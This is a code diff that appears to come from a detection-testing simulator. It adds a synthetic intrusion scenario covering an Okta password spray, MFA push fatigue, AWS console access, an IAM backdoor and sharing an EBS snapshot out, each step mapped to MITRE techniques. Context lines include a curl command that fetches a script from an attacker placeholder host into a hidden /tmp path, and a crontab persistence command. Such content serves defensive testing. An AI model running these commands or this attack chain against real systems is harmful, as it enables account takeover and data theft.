@@ -27,6 +27,7 @@ function alert(name: string, values: Record<string, string>, techniques: readonl
     tactic,
     after: seconds(20),
     host,
+    optional: true,
     values: { attack_id: '{{instance}}', attack_sequence: '{{step.sequence}}', attack_stage: tactic, source_ip: '{{attacker.ip}}', ...values },
   };
 }
@@ -36,7 +37,32 @@ const CRON_COMMAND = '/usr/bin/crontab /tmp/.ICE-unix/.c';
 const CRON_PROCTITLE = Buffer.from('crontab\0/tmp/.ICE-unix/.c').toString('hex').toUpperCase();
 const FETCH_COMMAND = '/usr/bin/curl -fsSL http://{{attacker.ip}}/s.sh -o /tmp/.ICE-unix/.s';
 
+/** A Stratus record as the attacker's call from the AWS console session they opened (browser, console credentials). */
+function fromConsole(scenario: string, eventName: string): Readonly<Record<string, unknown>> {
+  return { ...stratusRecord(scenario, eventName), userAgent: '{{attacker.browser}}', sessionCredentialFromConsole: 'true' };
+}
+
 export const CHAINS: readonly ScenarioSpec[] = [
+  {
+    name: 'okta-spray-mfa-fatigue-aws',
+    title: 'Password spray at Okta, MFA push fatigue, the AWS console through SSO, IAM persistence and a snapshot shared out',
+    origin: 'The 2022-2023 pattern of identity-provider intrusions (password spraying, MFA request generation, federation to the cloud console) as CISA and Okta describe it; the AWS calls from Stratus Red Team detonation records',
+    victim: { kind: 'human', roles: ['admin', 'developer'], needs: ['sso'] },
+    when: 'off_hours',
+    steps: [
+      { name: 'spray', source: 'okta', event: 'spray_attempt', techniques: ['T1110.003'], tactic: 'credential-access', repeat: { min: 20, max: 80, gap: seconds(25) } },
+      { name: 'password', source: 'okta', event: 'password_accepted', techniques: ['T1110.003', 'T1078.004'], tactic: 'initial-access', after: minutes(3) },
+      { name: 'push-denied', source: 'okta', event: 'mfa_push_denied', techniques: ['T1621'], tactic: 'credential-access', after: seconds(8), repeat: { min: 3, max: 12, gap: seconds(45) }, stage_end: true },
+      { name: 'push-accepted', source: 'okta', event: 'mfa_push_accepted', techniques: ['T1621'], tactic: 'credential-access', after: seconds(60), chance: 0.85 },
+      alert('alert-fatigue', { alert_rule: 'MFA push accepted after repeated denials from a new network', alert_rule_id: 'IDP-1204', alert_category: 'Credential Access', alert_severity: '73', alert_module: 'identity', alert_product: 'Okta ThreatInsight', alert_observer_type: 'idp', technique_id: 'T1621', technique_name: 'Multi-Factor Authentication Request Generation', tactic_id: 'TA0006', tactic_name: 'Credential Access' }, ['T1621'], 'credential-access', 'workstation'),
+      { name: 'sso-aws', source: 'okta', event: 'sso', techniques: ['T1078.004'], tactic: 'initial-access', after: seconds(30), values: { app: 'aws' } },
+      { name: 'aws-console', source: 'cloudtrail', event: 'federated_console_login', techniques: ['T1078.004'], tactic: 'initial-access', after: seconds(2) },
+      { name: 'create-key', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: minutes(4), record: fromConsole('persistence.iam-backdoor-user', 'CreateAccessKey') },
+      { name: 'attach-admin', source: 'cloudtrail', event: 'record', techniques: ['T1098.003'], tactic: 'privilege-escalation', after: seconds(20), record: fromConsole('persistence.iam-create-admin-user', 'AttachUserPolicy') },
+      { name: 'console-password', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: seconds(40), record: fromConsole('persistence.iam-create-user-login-profile', 'CreateLoginProfile') },
+      { name: 'share-snapshot', source: 'cloudtrail', event: 'record', techniques: ['T1537'], tactic: 'exfiltration', after: minutes(15), chance: 0.7, record: fromConsole('exfiltration.ec2-share-ebs-snapshot', 'ModifySnapshotAttribute') },
+    ],
+  },
   {
     name: 'ssh-brute-force-persistence',
     title: 'SSH password guessing on the bastion, a working password, sudo, and a root crontab',
